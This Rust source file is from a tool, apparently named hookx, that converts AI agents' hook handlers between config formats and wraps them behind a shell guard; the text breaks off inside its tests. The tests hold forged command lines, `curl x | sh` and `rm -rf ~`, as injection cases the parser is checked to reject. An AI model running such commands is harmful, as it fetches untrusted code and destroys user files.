//! Routing a handler through `hookx exec`, which gives it the stdin, variables and answer
//! rules of the agent it was written for, behind a guard that answers the host when hookx is
//! not installed.

use super::converter::Converter;
use crate::config::walk::HandlerAt;
use crate::model::EventKind;
use crate::shell::{MAX_SHELL_ARGUMENT, push_shell_quote, shell_quote, shell_quote_shortest};
use crate::source::SourceFile;
use crate::tables::{Flavor, NameRead};
use std::borrow::Cow;

/// How a handler is routed through `hookx exec` (the default; `--no-wrap` turns it off).
pub(super) struct Wrap<'a> {
    /// The source matcher, when the target cannot express it: `exec --match` applies it.
    pub(super) matcher: Option<&'a str>,
    /// The handler's own timeout; without one, `exec` applies its dialect's default (as
    /// the handler's own agent would), and the line says it had none.
    pub(super) timeout: Option<u64>,
    /// A Claude `if` permission-rule filter (`Bash(git *)`): `exec --if` applies it.
    pub(super) condition: Option<String>,
    /// The handler's own cap on its follow-ups in a row (Cursor's `loop_limit`):
    /// `exec --follow-up-limit` keeps it (attacks row 306).
    pub(super) follow_up_limit: Option<u64>,
    /// The handler runs in the background, its answer ignored (`async: true`), and the target
    /// has no such key: `exec --async` keeps it (attacks row 1762).
    pub(super) background: bool,
}

impl Converter<'_> {
    /// `<guard> hookx exec --host <to's dialect> --as <from> --event <event>`, behind the guard
    /// for a rule of `from` with `matcher`.
    fn exec_line(
        &mut self,
        event: &EventKind,
        from: Flavor,
        matcher: Option<&str>,
        to: Flavor,
    ) -> &str {
        let only = unguarded_tools(event, from, matcher, to);
        let at = match self
            .exec_lines
            .iter()
            .position(|((e, f, t, o), _)| e == event && *f == from && *t == to && *o == only)
        {
            Some(at) => at,
            None => {
                let line = format!(
                    "{} {} exec --host {} --as {} --event {event}",
                    guard_of(&shell_quote(&self.options.hookx), event, to, &only),
                    shell_quote(&self.options.hookx),
                    to.dialect(),
                    from.name(),
                );
                self.exec_lines
                    .push(((event.clone(), from, to, only), line));
                self.exec_lines.len() - 1
            }
        };
        &self.exec_lines[at].1
    }

    /// `line` run through `hookx exec` as `wrap` says; left as it is (a loss) where the
    /// wrapped line is too long for `sh -c`.
    #[allow(clippy::too_many_arguments)]
    pub(super) fn wrap_line<'l>(
        &mut self,
        src: &SourceFile,
        at: &HandlerAt,
        line: Cow<'l, str>,
        event: &EventKind,
        from: Flavor,
        to: Flavor,
        wrap: Wrap,
    ) -> Cow<'l, str> {
        let target = to.dialect();
        // The host is named: an agent that sets another's variables (Copilot sets
        // CLAUDE_PROJECT_DIR) must not be taken for it. Built with pushes, not `format!`:
        // at 10 000 handlers the formatting machinery cost more than the text.
        let start = self.exec_line(event, from, wrap.matcher, to);
        let mut wrapped = String::with_capacity(start.len() + 2 * line.len() + 32);
        wrapped.push_str(start);
        if let Some(timeout) = wrap.timeout {
            wrapped.push_str(" --timeout ");
            wrapped.push_str(itoa::Buffer::new().format(timeout));
        }
        if let Some(limit) = wrap.follow_up_limit {
            wrapped.push_str(" --follow-up-limit ");
            wrapped.push_str(itoa::Buffer::new().format(limit));
        }
        if wrap.background {
            wrapped.push_str(" --async");
        }
        if let Some(m) = wrap.matcher {
            wrapped.push_str(" --match ");
            push_shell_quote(&mut wrapped, m);
        }
        if let Some(rule) = &wrap.condition {
            wrapped.push_str(" --if ");
            push_shell_quote(&mut wrapped, rule);
        }
        wrapped.push_str(" -- ");
        let quoted = shell_quote_shortest(&line);
        wrapped.push_str(&super::variables::kept_from_command_text(&quoted, to));
        if wrapped.len() > MAX_SHELL_ARGUMENT {
            self.lose(
                src,
                at,
                &format!("a {}-byte command", line.len()),
                &format!(
                    "wrapped, it is {} bytes, and the host hands it to `sh -c` as one argument, which Linux refuses over 128 KiB; it is left unwrapped, so under {target} it receives {target}'s payload (move it into a script file and convert again)",
                    wrapped.len()
                ),
            );
            line
        } else {
            self.wrapped += 1;
            let unread = crate::protocol::unreadable_answers(
                &from.tables().protocol,
                &to.tables().protocol,
                event,
            );
            if !unread.is_empty() {
                self.lose(
                    src,
                    at,
                    &format!("its answers on `{event}`: {}", unread.join(", ")),
                    &format!(
                        "{target} reads no JSON answer, only exit codes (and plain stdout as context where it says so); `hookx exec` cannot pass these on"
                    ),
                );
            }
            self.lose_dropped_context(src, at, event, from, to, &unread);
            wrapped.into()
        }
    }
}

impl Converter<'_> {
    /// A wrapped handler on an event where `from`'s agent hands its additional context to the
    /// model and `to`'s takes none: whatever context it answers, `hookx exec` can give the host
    /// nothing, and nothing of the copy carries it to a later event (attacks row 2188: a
    /// Claude guard's PreToolUse context converted to Qwen never reached Qwen's model, while
    /// `convert` said "no losses"). `convert` cannot tell whether the command answers one: the
    /// loss says "any". Not said again where `unread` (a host that reads no JSON) says it.
    fn lose_dropped_context(
        &mut self,
        src: &SourceFile,
        at: &HandlerAt,
        event: &EventKind,
        from: Flavor,
        to: Flavor,
        unread: &[&str],
    ) {
        let (source, target) = (&from.tables().protocol, &to.tables().protocol);
        if !source.takes_context(event)
            || target.takes_context(event)
            || unread.contains(&"additional context")
        {
            return;
        }
        let routed = match target.carried_context.as_ref().filter(|c| c.from == *event) {
            Some(carried) => format!(
                " (a rule `hookx run` routes has it carried to the same call's {}; a converted copy has not)",
                carried
                    .to
                    .iter()
                    .map(|k| crate::protocol::event_name(to.tables(), k))
                    .collect::<Vec<_>>()
                    .join(" or ")
            ),
            None => String::new(),
        };
        self.lose(
            src,
            at,
            &format!("any additional context it answers on `{event}`"),
            &format!(
                "{} hands it to the model there, {} takes none on {}: `hookx exec` drops it, so it never reaches {}'s model{routed}",
                from.dialect(),
                to.dialect(),
                crate::protocol::event_name(to.tables(), event),
                to.dialect()
            ),
        );
    }
}

/// What a wrapped entry says where hookx is not installed: what to do about it. No quote,
/// backslash or `%`, so it stands as is inside JSON, a single-quoted word and a `printf` format.
pub const NOT_INSTALLED: &str = "hookx not found: install it or convert again with --hookx PATH";

/// The start of a wrapped entry: where hookx is not installed, it prints [`NOT_INSTALLED`]
/// (stderr) and answers the host by hookx's own failure policy, the one
/// [`ProtocolTables::fails_closed`] decides for `hookx run` and `hookx exec` too. On an event
/// that guards a tool call the answer is a deny with that message as the reason, written as
/// the host reads it (Copilot's `preToolUse` ignores stderr at exit 2, so its JSON answer
/// carries the reason; Windsurf and Kiro read only exit 2): a guard is never dropped silently,
/// and the agent says why. On every other event it exits 1, a non-blocking error every host
/// reports: a missing hookx never keeps a Stop going, never refuses a prompt or a compaction.
/// The message is in the line once (a shell variable where the answer repeats it): every
/// wrapped handler of a converted file carries this guard.
///
/// [`ProtocolTables::fails_closed`]: crate::tables::ProtocolTables::fails_closed
pub fn not_installed_guard(hookx: &str, event: &EventKind, to: Flavor) -> String {
    guard_of(&shell_quote(hookx), event, to, &[])
}

/// The tools of `to` whose calls a rule of `from` with `matcher` on `event` never guards,
/// where `to` has no matcher of its own to say it (its copy carries `matcher` only in `exec
/// --match`) and its payload's tool name can be read without hookx
/// ([`ProtocolTables::guard_reads_name`](crate::tables::ProtocolTables::guard_reads_name));
/// empty elsewhere. Attacks rows 1203, 1209: without hookx, a Cline or VS Code copy of a `Bash`
/// guard denied every tool's call. A name
/// is listed only when the rule matches none of the canonical tools it may stand for
/// (`apply_patch`: an edit, a write, …), nor the name itself, so that a call the rule might
/// guard is never in it.
fn unguarded_tools(
    event: &EventKind,
    from: Flavor,
    matcher: Option<&str>,
    to: Flavor,
) -> Vec<&'static str> {
    let tables = to.tables();
    let Some(matcher) = matcher else {
        return Vec::new();
    };
    let Some(reader) = tables.protocol.guard_reads_name else {
        return Vec::new();
    };
    let denies = tables.protocol.fails_closed(event) && event.is_tool_event();
    // A matcher on a payload field (none on a tool event today) is left to hookx.
    let on_name = !matches!(
        from.tables().matcher_target(event),
        Some(crate::tables::MatchOn::Field(_))
    );
    if !denies || !on_name || tables.matcher_target(event).is_some() {
        return Vec::new();
    }
    let rule = crate::tables::Rule {
        event: event.clone(),
        flavor: from,
        matcher: Some(matcher.to_string()),
        handlers: Vec::new(),
        shape: crate::tables::RuleShape::Group,
        extra: Default::default(),
        origin: crate::tables::Origin {
            file: "<hookx convert>".into(),
            pointer: String::new(),
        },
    };
    let guards = |id: &str| {
        let call = crate::model::Event::tool_call(event.clone(), id, serde_json::Value::Null);
        crate::dispatch::select::rule_matches(&rule, &call)
            != crate::dispatch::select::MatchVerdict::NoMatch
    };
    let mut names: Vec<&'static str> = Vec::new();
    for &name in tables.tools.iter().flat_map(|(_, names)| names.iter()) {
        if names.contains(&name) || !reader.tells(name) {
            continue;
        }
        let ids = (tables.tools.iter())
            .filter(|(_, names)| names.contains(&name))
            .map(|(id, _)| *id);
        let coded = (Flavor::all().iter())
            .flat_map(|f| f.tables().tool_codecs)
            .filter(|c| c.name == name)
            .flat_map(|c| c.ids.iter().copied());
        if !ids.chain(coded).chain([name]).any(guards) {
            names.push(name);
        }
    }
    names
}

/// [`not_installed_guard`] of the hookx program written as the shell word `quoted`; where
/// `only` names tools ([`unguarded_tools`]), a call of one of them goes on without hookx (an
/// empty answer) when `node` reads it so, and every other call is denied.
fn guard_of(quoted: &str, event: &EventKind, to: Flavor, only: &[&str]) -> String {
    let test = format!("command -v {quoted} >/dev/null 2>&1 ||");
    let message = shell_quote(NOT_INSTALLED);
    if !to.tables().protocol.fails_closed(event) {
        return format!("{test} {{ echo {message} >&2; exit 1; }};");
    }
    let test = match to.tables().protocol.guard_reads_name {
        Some(NameRead::Node(at)) if !only.is_empty() => format!(
            "{test} {{ command -v node >/dev/null 2>&1 && NODE_OPTIONS= node -e {} && exit 0;",
            shell_quote(&unguarded_call_script(at, only))
        ),
        Some(NameRead::Key(key)) if !only.is_empty() => format!(
            "{test} {{ command -v awk >/dev/null 2>&1 && LC_ALL=C awk {} && exit 0;",
            shell_quote(&unguarded_key_script(key, only))
        ),
        _ => format!("{test} {{"),
    };
    let event = crate::model::Event::bare(event.clone());
    let outcome = crate::model::Outcome {
        decision: Some(crate::model::Decision::Deny),
        block: true,
        reasons: vec![NOT_INSTALLED.to_string()],
        ..Default::default()
    };
    let host = crate::protocol::encode_answer(to, &event, &outcome);
    let code = host.exit_code;
    if host.stdout.is_empty() {
        return format!("{test} echo {message} >&2; exit {code}; }};");
    }
    // The answer as a `printf` format, the message's places in it taken by `%s`.
    let uses = host.stdout.matches(NOT_INSTALLED).count();
    let format = host
        .stdout
        .replace('\\', "\\\\")
        .replace('%', "%%")
        .replace(NOT_INSTALLED, "%s");
    format!(
        "{test} m={message}; printf {}{}; echo \"$m\" >&2; exit {code}; }};",
        shell_quote(&format!("{format}\\n")),
        " \"$m\"".repeat(uses),
    )
}

/// The `node -e` program of a guard that lets the calls of `only` go on: it exits 0 only when
/// stdin is a JSON object whose every place in `at` that holds something holds the name of one
/// of `only`, and one does; anything else (no name, another, not text, not JSON) exits 1 and
/// the guard denies. The payload is only parsed, never run; the names are table data.
fn unguarded_call_script(at: &[&[&str]], only: &[&str]) -> String {
    let list = |items: &[&str]| serde_json::to_string(items).expect("strings");
    let at = at
        .iter()
        .map(|path| list(path))
        .collect::<Vec<_>>()
        .join(",");
    format!(
        "let p;try{{p=JSON.parse(require(\"fs\").readFileSync(0,\"utf8\"))}}catch(e){{process.exit(1)}}\
         const ok={};let n=0;\
         for(const at of [{at}]){{let v=p;\
         for(const k of at){{v=v!==null&&typeof v===\"object\"&&!Array.isArray(v)&&Object.prototype.hasOwnProperty.call(v,k)?v[k]:undefined}}\
         if(v===undefined)continue;if(typeof v!==\"string\"||!ok.includes(v))process.exit(1);n++}}\
         process.exit(n?0:1)",
        list(only),
    )
}

/// The `awk` program of a guard that lets the calls of `only` go on, for a payload whose tool
/// name is under `key` ([`NameRead::Key`]): it exits 0 only when the text holds `"KEY"`, and
/// each `"KEY"` in it (a key anywhere, or a string) is a key followed by the name of one of
/// `only`, quoted; anything else exits 1 and the guard denies. Inside a JSON string a quote is
/// escaped, so the host's own key is always one of those counted: a `"KEY"` the model's
/// arguments hold can only deny. `only`'s names are ones [`NameRead::tells`].
fn unguarded_key_script(key: &str, only: &[&str]) -> String {
    let names = (only.iter())
        .map(|n| n.replace('.', "[.]"))
        .collect::<Vec<_>>()
        .join("|");
    format!(
        "{{t+=gsub(/\"{key}\"/,\"&\");n+=gsub(/\"{key}\"[ \\t\\r]*:[ \\t\\r]*\"({names})\"/,\"&\")}}\
         END{{exit !(t&&t==n)}}"
    )
}

/// A wrapped entry whose not-installed guard is not the one [`not_installed_guard`] writes
/// today for its event and host: a file converted by an older hookx, whose guard may answer
/// differently where hookx is missing (an older guard kept a Stop going and refused prompts).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OutdatedGuard {
    /// The event the entry names (`--event`).
    pub event: EventKind,
    /// The flavour the guard answers as.
    pub host: Flavor,
    /// Whether today's guard denies there (the event guards a tool call) or exits 1.
    pub fails_closed: bool,
    /// Whether today's guard lets the calls its matcher never guards go on (row 1203).
    pub narrowed: bool,
    /// Today's guard for the entry.
    today: String,
}

impl OutdatedGuard {
    /// What today's guard answers, in words.
    pub fn today(&self) -> &'static str {
        if self.narrowed {
            "denies the tool calls its matcher guards, saying why, and lets the others go on"
        } else if self.fails_closed {
            "denies the tool call, saying why"
        } else {
            "exits 1, a non-blocking error, and blocks nothing"
        }
    }
}

/// Whether `line`, a command line of a rule of `flavor`, is a wrapped entry (`<guard> HOOKX
/// exec --host D … --event E …`) whose guard differs from today's for its event and host (the
/// file's own flavour where the file is of the dialect `--host` names, else any of that
/// dialect's flavours). `None` for any other line, and for an up-to-date guard.
pub fn outdated_guard(line: &str, flavor: Flavor) -> Option<OutdatedGuard> {
    let (quoted, guard, exec) = guarded_exec(line.trim_start())?;
    let options = exec_options(exec)?;
    let option = |name: &str| options.iter().find(|(o, _)| o == name).map(|(_, v)| v);
    let host = crate::tables::Dialect::named(option("--host")?)?;
    let name = option("--event")?;
    let from = option("--as").and_then(|f| Flavor::named(f));
    let matcher = option("--match").map(String::as_str);
    let event = host
        .flavors()
        .find_map(|f| f.tables().event_kind(name))
        .unwrap_or_else(|| EventKind::from_name(name));
    let mut hosts: Vec<Flavor> = if flavor.dialect() == host {
        vec![flavor]
    } else {
        host.flavors().collect()
    };
    let only =
        |to: Flavor| from.map_or_else(Vec::new, |from| unguarded_tools(&event, from, matcher, to));
    if hosts
        .iter()
        .any(|&to| guard_of(quoted, &event, to, &only(to)) == guard)
    {
        return None;
    }
    let host = hosts.remove(0);
    let only = only(host);
    Some(OutdatedGuard {
        fails_closed: host.tables().protocol.fails_closed(&event),
        narrowed: !only.is_empty(),
        today: guard_of(quoted, &event, host, &only),
        event,
        host,
    })
}

/// The options of `hookx exec` (`--host cline --match 'A B'`, unquoted, in pairs) before the
/// `--` that ends them in `exec`, what follows `exec ` in a wrapped line; `None` when no ` -- `
/// ends a list of pairs of plain words and quotes.
fn exec_options(exec: &str) -> Option<Vec<(String, String)>> {
    exec.match_indices(" -- ").find_map(|(at, _)| {
        // `--async`, the one option without a value, is no pair.
        let mut words = shell_words(&exec[..at])?;
        words.retain(|w| w != "--async");
        let pairs = words.chunks(2);
        let ok = words.len() % 2 == 0 && pairs.clone().all(|p| p[0].starts_with("--"));
        ok.then(|| pairs.map(|p| (p[0].clone(), p[1].clone())).collect())
    })
}

/// `line` with today's not-installed guard in place of the older one it starts with
/// ([`outdated_guard`]), the rest (the hookx program, `exec` and its handler) byte for byte;
/// `None` when it has none to refresh.
pub fn refreshed_guard(line: &str, flavor: Flavor) -> Option<String> {
    let outdated = outdated_guard(line, flavor)?;
    let start = line.len() - line.trim_start().len();
    let (_, guard, _) = guarded_exec(&line[start..])?;
    Some(format!(
        "{}{}{}",
        &line[..start],
        outdated.today,
        &line[start + guard.len()..]
    ))
}

/// What a wrapped entry runs: the command, the dialect `hookx exec` runs it as, and the hookx
/// program it calls.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Wrapped {
    pub hookx: String,
    /// The `--as` flavour, as written.
    #[serde(rename = "as")]
    pub as_flavor: String,
    pub command: String,
}

impl Wrapped {
    /// The short note on how it runs: `via hookx exec --as claude` (the program's file name).
    pub fn via(&self) -> String {
        let program = std::path::Path::new(&self.hookx)
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or(&self.hookx);
        format!("via {program} exec --as {}", self.as_flavor)
    }
}

/// The parts of `line` when it is exactly a wrapped entry as convert writes it today (`<guard>
/// HOOKX exec --host D --as F --event E [--timeout N] [--follow-up-limit N] [--async]
/// [--match M] [--if R] -- COMMAND`), its
/// guard the one [`not_installed_guard`] writes for its event under one of D's flavours:
/// `hookx list` and `hookx trust` show the command, not the guard every such entry repeats.
/// `None` for any other line, an older guard included: only a line that runs nothing but
/// hookx's guard and `hookx exec` may be shown as its command.
pub fn wrapped_command(line: &str) -> Option<Wrapped> {
    let (quoted, _) = line
        .strip_prefix("command -v ")?
        .split_once(" >/dev/null 2>&1 ||")?;
    let end = line.find(&format!("}}; {quoted} exec "))? + 2;
    let guard = &line[..end];
    let words = crate::shell::split_words(&line[end + 1..])?;
    let (program, rest) = words.split_first()?;
    if crate::shell::split_words(quoted)? != [program.as_str()] {
        return None;
    }
    let [exec, rest @ ..] = rest else {
        return None;
    };
    if exec != "exec" {
        return None;
    }
    let (mut host, mut flavor, mut event, mut matcher) = (None, None, None, None);
    let mut rest = rest;
    let command = loop {
        match rest {
            [flag, tail @ ..] if flag == "--async" => rest = tail,
            [option, value, tail @ ..] if option.starts_with("--") && option != "--" => {
                match option.as_str() {
                    "--host" => host = Some(value),
                    "--as" => flavor = Some(value),
                    "--event" => event = Some(value),
                    "--match" => matcher = Some(value.as_str()),
                    "--timeout" | "--if" | "--follow-up-limit" => {}
                    _ => return None,
                }
                rest = tail;
            }
            [dashes, command] if dashes == "--" => break command,
            _ => return None,
        }
    };
    let host = crate::tables::Dialect::named(host?)?;
    let event = event?;
    let kind = host
        .flavors()
        .find_map(|f| f.tables().event_kind(event))
        .unwrap_or_else(|| EventKind::from_name(event));
    let from = Flavor::named(flavor?)?;
    if !host.flavors().any(|to| {
        let only = unguarded_tools(&kind, from, matcher, to);
        guard_of(quoted, &kind, to, &only) == guard
    }) {
        return None;
    }
    Some(Wrapped {
        hookx: program.clone(),
        as_flavor: flavor?.clone(),
        command: command.clone(),
    })
}

/// `<guard> HOOKX exec REST` (a guard beginning `command -v HOOKX >/dev/null 2>&1 ||` and
/// ending `};`, as every hookx since wrapping by default wrote it): the hookx word as
/// quoted, the guard, and what follows `exec `.
fn guarded_exec(line: &str) -> Option<(&str, &str, &str)> {
    let (quoted, _) = line
        .strip_prefix("command -v ")?
        .split_once(" >/dev/null 2>&1 ||")?;
    let end = line.find(&format!("}}; {quoted} exec "))? + 2;
    Some((quoted, &line[..end], &line[end + quoted.len() + 7..]))
}

/// Whether `guard` (`command -v QUOTED >/dev/null 2>&1 || { … };`) is one hookx wrote, of any
/// version: its braces hold only `m='…'`, `echo '…' [>&2]`, `printf '…' ["$m"…]` and `exit N`,
/// each quote plain text (`"$m"` the only expansion). Anything else (a command, a `}` closing
/// the braces early, a substitution) runs whether or not hookx is installed, so the line is
/// not hookx's wrapper and must not be read as only the command it hands to `hookx exec`.
fn is_hookx_guard(quoted: &str, guard: &str) -> bool {
    let Some(body) = guard
        .strip_prefix(&format!("command -v {quoted} >/dev/null 2>&1 || {{"))
        .and_then(|b| b.strip_suffix("};"))
    else {
        return false;
    };
    // The body with each quote replaced by `Q`.
    let mut masked = String::with_capacity(body.len());
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                if !chars.by_ref().any(|c| c == '\'') {
                    return false;
                }
                masked.push('Q');
            }
            '"' => {
                let mut text = String::new();
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\' | '`') | None => return false,
                        Some(c) => text.push(c),
                    }
                }
                if text.contains('$') && text != "$m" {
                    return false;
                }
                masked.push('Q');
            }
            c => masked.push(c),
        }
    }
    masked.split(';').map(str::trim).all(|statement| {
        let words: Vec<&str> = statement.split_ascii_whitespace().collect();
        match words.as_slice() {
            [] => true,
            ["m=Q"] => true,
            ["exit", code] => code.bytes().all(|b| b.is_ascii_digit()),
            ["echo", rest @ ..] => {
                let rest = rest.strip_suffix(&[">&2"]).unwrap_or(rest);
                !rest.is_empty() && rest.iter().all(|w| *w == "Q")
            }
            ["printf", rest @ ..] => !rest.is_empty() && rest.iter().all(|w| *w == "Q"),
            _ => false,
        }
    })
}

/// What a wrapped entry says: the handler it runs, as it was written for its own agent, and
/// how `hookx exec` runs it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Unwrapped {
    /// The hookx program the line runs, unquoted.
    pub program: String,
    /// `--host`: the agent the answer is written for.
    pub host: Option<crate::tables::Dialect>,
    /// `--as`: the flavour the command was written for.
    pub flavor: Flavor,
    /// `--event`, as written.
    pub event: Option<String>,
    /// `--timeout`: the handler's own (an older hookx wrote its dialect's default when it had
    /// none).
    pub timeout: Option<u64>,
    /// `--match`: the source matcher, where the host could not say it.
    pub matcher: Option<String>,
    /// `--if`: Claude's permission-rule filter.
    pub condition: Option<String>,
    /// `--follow-up-limit`: the handler's own cap on its follow-ups (Cursor's `loop_limit`).
    pub follow_up_limit: Option<u64>,
    /// `--async`: its own agent runs it in the background (`async: true`).
    pub is_async: bool,
    /// The handler's command line.
    pub command: String,
}

/// The handler a command line runs through `hookx exec --as`, whichever form hookx wrote:
/// behind today's not-installed guard or an older one (`command -v HOOKX … || { … }; HOOKX
/// exec --host H --as F …`), or bare, as hookx wrote it before wrapping was the default
/// (`HOOKX exec --as F --event E … -- 'CMD'`, HOOKX as given to `--hookx`). `None` for any
/// other line: one with anything before or after the wrapper, an option `convert` never
/// writes, or a quote left open.
pub fn unwrapped(line: &str) -> Option<Unwrapped> {
    let line = line.trim();
    let (guarded, program, rest) = match guarded_exec(line) {
        Some((quoted, guard, rest)) => {
            // Every guard hookx wrote says so where hookx is missing, and runs nothing else:
            // a line that runs a command of its own before `hookx exec` is not hookx's. The
            // one guard that runs `node` is read only as exactly today's for its options.
            let ours = guard.contains("hookx not found")
                && (is_hookx_guard(quoted, guard) || wrapped_command(line).is_some());
            let program = unwrapped_word(quoted).unwrap_or_else(|| quoted.to_string());
            (true, program, ours.then_some(rest)?)
        }
        None => {
            let (program, rest) = line.split_once(" exec ")?;
            let plain = !program.is_empty()
                && !program
                    .bytes()
                    .any(|b| b.is_ascii_whitespace() || b"'\"\\;&|<>()$`*?[]#~{}".contains(&b));
            (false, program.to_string(), plain.then_some(rest)?)
        }
    };
    let mut words = shell_words(rest)?.into_iter();
    let mut out = Unwrapped {
        program,
        host: None,
        flavor: Flavor::all()[0],
        event: None,
        timeout: None,
        matcher: None,
        condition: None,
        follow_up_limit: None,
        is_async: false,
        command: String::new(),
    };
    let mut flavor = None;
    loop {
        let option = words.next()?;
        let mut value = || words.next();
        match option.as_str() {
            "--" => break,
            "--host" => out.host = Some(crate::tables::Dialect::named(&value()?)?),
            "--as" => flavor = Some(Flavor::named(&value()?)?),
            "--event" => out.event = Some(value()?),
            "--timeout" => out.timeout = Some(value()?.parse().ok()?),
            "--match" => out.matcher = Some(value()?),
            "--if" => out.condition = Some(value()?),
            "--follow-up-limit" => out.follow_up_limit = Some(value()?.parse().ok()?),
            "--async" => out.is_async = true,
            _ => return None,
        }
    }
    out.flavor = flavor?;
    // Without a guard, hookx always named the event: another program's `exec --as NAME`
    // (`kubectl exec --as USER -- …`) is not taken for it.
    if !guarded && out.event.is_none() {
        return None;
    }
    let command: Vec<String> = words.collect();
    out.command = match command.as_slice() {
        [] => return None,
        [one] => one.clone(),
        // `exec` runs a program and its arguments as this line.
        words => words
            .iter()
            .map(|w| shell_quote(w))
            .collect::<Vec<_>>()
            .join(" "),
    };
    Some(out)
}

/// [`unwrapped`], through every wrapper: an older hookx wrapped a wrapped entry again when it
/// converted it back.
pub fn innermost(line: &str) -> Option<Unwrapped> {
    let mut found = unwrapped(line)?;
    while let Some(inner) = unwrapped(&found.command) {
        found = inner;
    }
    Some(found)
}

/// What a converted handler (a JSON object) runs, whatever hookx wrote it with: its keys but
/// hookx's provenance record, each string the innermost command of a `hookx exec` wrap. Equal
/// for a copy written again by another hookx (`--hookx` moved), which runs what it ran.
pub fn runs_of(handler: &serde_json::Value) -> Option<serde_json::Value> {
    let runs = handler
        .as_object()?
        .iter()
        .filter(|(k, _)| *k != crate::config::MARKER)
        .map(|(k, v)| {
            let v = match v.as_str().and_then(innermost) {
                Some(inner) => serde_json::Value::from(inner.command),
                None => v.clone(),
            };
            (k.clone(), v)
        })
        .collect();
    Some(serde_json::Value::Object(runs))
}

/// `value` with each `hookx exec` line read as what it runs ([`unwrapped`]) but for the hookx
/// program it calls: equal for a copy written again by a hookx at another path (attacks row
/// 660), which `convert --write` replaces instead of adding it beside.
pub fn but_its_hookx(value: &serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(line) => match unwrapped(line) {
            Some(runs) => Value::from(format!(
                "{:?}",
                Unwrapped {
                    program: String::new(),
                    ..runs
                }
            )),
            None => value.clone(),
        },
        Value::Array(items) => items.iter().map(but_its_hookx).collect(),
        Value::Object(fields) => (fields.iter())
            .map(|(k, v)| (k.clone(), but_its_hookx(v)))
            .collect(),
        _ => value.clone(),
    }
}

/// The one word `text` is, unquoted; `None` unless it is exactly one word.
pub(super) fn unwrapped_word(text: &str) -> Option<String> {
    let mut words = shell_words(text)?;
    (words.len() == 1).then(|| words.remove(0))
}

/// The words of a line made of plain words, `'…'` and `"…"` quotes and backslash escapes,
/// unquoted; `None` for anything the shell would do more with (an operator, an expansion, a
/// pattern, a quote left open).
fn shell_words(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => words.extend(word.take()),
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => w.push(c),
                    }
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => match chars.next()? {
                            c @ ('"' | '\\' | '$' | '`') => w.push(c),
                            '\n' => {}
                            c => {
                                w.push('\\');
                                w.push(c);
                            }
                        },
                        '$' | '`' => return None,
                        c => w.push(c),
                    }
                }
            }
            '\\' => match chars.next()? {
                '\n' => {}
                c => word.get_or_insert_with(String::new).push(c),
            },
            c if c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c) || !c.is_ascii() => {
                word.get_or_insert_with(String::new).push(c)
            }
            _ => return None,
        }
    }
    words.extend(word);
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tables::Flavor;

    /// Runs a guard line in `sh` where its hookx is not installed.
    fn run_guard(line: &str) -> (i32, String, String) {
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("{line} echo ran"))
            .env("PATH", "/nonexistent")
            .output()
            .unwrap();
        let text = |b: &[u8]| String::from_utf8(b.to_vec()).unwrap();
        (
            out.status.code().unwrap(),
            text(&out.stdout),
            text(&out.stderr),
        )
    }

    /// For every target flavour and every event it has: without hookx, the guard says
    /// [`NOT_INSTALLED`] once on stderr and, where the failure policy fails closed, answers
    /// exactly what hookx itself answers for a deny with that reason (the same exit code and
    /// JSON, message included); everywhere else it exits 1. (`tests/convert.rs` reads every
    /// answer back with the host's decoder.)
    #[test]
    fn without_hookx_every_guard_answers_as_the_host_reads_a_deny() {
        let mut refusing = 0;
        for &to in Flavor::all() {
            for (kind, _) in to.tables().events {
                let hookx = "/no where/it's/hookx";
                let line = not_installed_guard(hookx, kind, to);
                assert_eq!(line.matches(NOT_INSTALLED).count(), 1, "{line}");
                let (code, stdout, stderr) = run_guard(&line);
                assert_eq!(stderr, format!("{NOT_INSTALLED}\n"), "{line}");
                let event = crate::model::Event::bare(kind.clone());
                let deny = crate::model::Outcome {
                    decision: Some(crate::model::Decision::Deny),
                    block: true,
                    reasons: vec![NOT_INSTALLED.to_string()],
                    ..Default::default()
                };
                let host = crate::protocol::encode_answer(to, &event, &deny);
                if !to.tables().protocol.fails_closed(kind) {
                    assert_eq!((code, &*stdout), (1, ""), "{line}");
                    continue;
                }
                refusing += 1;
                assert_eq!(
                    (code, stdout.trim_end()),
                    (host.exit_code, &*host.stdout),
                    "{line}"
                );
                if !stdout.is_empty() {
                    let answer: serde_json::Value = serde_json::from_str(&stdout).unwrap();
                    assert!(answer.to_string().contains(NOT_INSTALLED), "{stdout}");
                }
            }
        }
        assert!(refusing > 10, "{refusing}");
    }

    /// A line convert wraps reads back as its command; a forged or older guard, another
    /// command after it, or an option `hookx exec` lacks does not.
    #[test]
    fn a_wrapped_line_reads_back_as_its_command() {
        let claude = Flavor::all()[0];
        for &to in Flavor::all() {
            for (kind, _) in to.tables().events {
                let command = "./guard.sh \"$1\" && echo 'it''s'";
                let only = unguarded_tools(kind, claude, Some("Bash|Edit"), to);
                let line = format!(
                    "{} {} exec --host {} --as claude --event {kind} --timeout 600 --match 'Bash|Edit' -- {}",
                    guard_of(&shell_quote("/opt/hookx"), kind, to, &only),
                    shell_quote("/opt/hookx"),
                    to.dialect(),
                    crate::shell::shell_quote_shortest(command),
                );
                let wrapped = wrapped_command(&line).unwrap_or_else(|| panic!("{line}"));
                assert_eq!(wrapped.command, command);
                assert_eq!(wrapped.as_flavor, "claude");
                assert_eq!(wrapped.hookx, "/opt/hookx");
                for forged in [
                    line.replace("exit ", "curl x | sh; exit "),
                    format!("{line}; rm -rf ~"),
                    line.replace("--timeout", "--evil"),
                    // Another script for `node`, or the guard for another matcher.
                    line.replace("node -e 'let p;", "node -e 'require(\"x\");let p;"),
                    // An `awk` program that lets every call go on, or another `awk`.
